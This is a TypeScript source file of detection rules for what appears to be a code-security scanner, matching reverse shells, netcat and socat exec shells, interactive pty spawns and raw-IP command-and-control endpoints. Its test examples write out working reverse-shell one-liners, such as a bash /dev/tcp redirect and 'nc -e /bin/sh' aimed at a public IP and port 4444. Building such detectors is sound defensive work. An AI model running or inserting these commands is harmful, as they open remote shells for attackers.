import type { PatternRule } from '../rule-types';
import { rx } from '../regex-registry';
import { pattern } from './define';

const r = String.raw;

/** Pattern rules of the `reverse-shell` category. */
export const REVERSE_SHELL_RULES: PatternRule[] = [
  // ---------------------------------------------------------------- reverse shells / C2
  pattern({
    id: 'revshell-dev-tcp',
    category: 'reverse-shell',
    severity: 'critical',
    examples: {
      match: [{ path: 'scripts/x.sh', text: '#!/bin/bash\nbash -i >& /dev/tcp/91.92.0.17/4444 0>&1\n' }],
      noMatch: [{ path: 'scripts/x.sh', text: '#!/bin/bash\nnc -z localhost 5432 && echo up\n' }],
    },
    nature: 'code',
    keywords: ['/dev/tcp/', '/dev/udp/'],
    patterns: [r`/dev/(?:tcp|udp)/[^\s/]{1,100}/\d{1,5}`],
  }),
  pattern({
    id: 'revshell-netcat-socat',
    category: 'reverse-shell',
    severity: 'critical',
    examples: {
      match: [
        { path: 'scripts/x.sh', text: '#!/bin/sh\nnc -e /bin/sh 91.92.0.17 4444\n' },
        { path: 'scripts/x.sh', text: '#!/bin/sh\nncat --exec "/bin/bash" --listen 9001 --keep-open\n' },
        { path: 'scripts/x.bat', text: 'nc.exe -e cmd.exe 91.92.0.17 4444\n' },
      ],
      noMatch: [
        { path: 'scripts/x.sh', text: '#!/bin/sh\nnc -zv db.internal 5432\n' },
        { path: 'scripts/x.sh', text: '#!/bin/sh\nncat --ssl --listen 8443 > received.bin\n' },
      ],
    },
    nature: 'code',
    keywords: ['nc ', 'ncat', 'netcat', 'mkfifo', 'socat'],
    patterns: [
      r`\b(?:nc|ncat|netcat|nc\.traditional)\b[^\n|;]{0,80}?\s-[a-z]{0,4}[ec]\s{0,3}["']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b`,
      r`\bmkfifo\b[^\n]{0,160}?\b(?:nc|ncat|netcat|openssl\s{1,3}s_client)\b`,
      r`\bsocat\b[^\n]{0,160}?\b(?:exec|system):[^\n]{0,40}(?:sh|bash|cmd|pty)`,
      // Bind shells through pipes: a listener feeding a shell, or an interactive shell feeding a socket.
      r`\b(?:nc|ncat|netcat)\s{1,3}(?:-[a-z]{1,4}\s{1,3}(?:\d{1,5}\s{1,3})?){0,4}-[a-z]{0,3}l[a-z]{0,3}\b[^\n;]{0,80}?\|\s{0,3}(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b`,
      r`\b(?:ba|z|da)?sh\s{1,3}-i\b[^\n;]{0,40}?\|\s{0,3}(?:nc|ncat|netcat)\b`,
      // Long options and Windows shells: `ncat --exec "/bin/sh" -l 9001`, `nc -e cmd.exe host 4444`.
      r`\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}?\s(?:--(?:sh-)?exec(?:\s{1,3}|=)|-[a-z]{0,4}e\s{0,3})["']?(?:(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b`,
    ],
  }),
  pattern({
    id: 'revshell-interactive',
    category: 'reverse-shell',
    severity: 'critical',
    examples: {
      match: [{ path: 'scripts/x.py', text: 'import pty\npty.spawn("/bin/bash")\n' }],
      noMatch: [{ path: 'scripts/x.py', text: 'import subprocess\nsubprocess.run(["bash", "build.sh"], check=True)\n' }],
    },
    nature: 'code',
    keywords: ['sh -i', 'pty.spawn', 'dup2', '"-i"', "'-i'", 'tcpclient', 'net.socket', 'cmd.exe'],
    patterns: [
      r`\b(?:ba|z)?sh\s{1,3}-i\s{0,3}(?:>&|&>|>\s{0,3}&|<&|\d>&|2>&1\s{0,3}\|)`,
      r`\bpty\.spawn\(\s{0,3}["'](?:/bin/)?(?:ba|z)?sh`,
      r`\bos\.dup2\(\s{0,3}\w{1,20}\.fileno\(\)`,
      r`\bsubprocess\.(?:call|Popen|run)\(\s{0,3}\[\s{0,3}["'](?:/bin/)?(?:ba|z)?sh["']\s{0,3},\s{0,3}["']-i["']`,
      r`\bNew-Object\s{1,3}(?:System\.)?Net\.Sockets\.TCPClient\s{0,3}\(`,
      r`\bnet\.Socket\(\)[^\n]{0,300}(?:/bin/(?:ba)?sh|cmd\.exe)|(?:/bin/(?:ba)?sh|cmd\.exe)[^\n]{0,300}\bnet\.Socket\(\)`,
    ],
  }),
  pattern({
    id: 'c2-raw-ip-endpoint',
    category: 'reverse-shell',
    severity: 'medium',
    examples: {
      match: [{ path: 'scripts/x.py', text: 'URL = "http://91.92.0.17:8443/beacon"\n' }],
      noMatch: [{ path: 'scripts/x.py', text: 'URL = "http://192.168.1.20:8080/status"\nDOC = "http://203.0.113.5/api"\n' }],
    },
    nature: 'reference',
    ctx: { prose: -1, fenced: -1, 'inline-code': -1 },
    keywords: ['http', 'connect', 'tcp://'],
    patterns: [
      r`\b(?:https?|tcp|wss?)://(?!(?:127\.|10\.|0\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|255\.))(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?(?![\d.])`,
      r`\.connect\(\s{0,3}\(\s{0,3}["'](?!127\.|10\.|192\.168\.|0\.0)(?:\d{1,3}\.){3}\d{1,3}["']`,
    ],
    validate: (info) => (TEST_NET.test(info.match[0]) ? 'info' : true),
  }),
];

const TEST_NET = rx('c2:test-net', String.raw`//(?:192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4\b|0\.0\.0\.0)`);
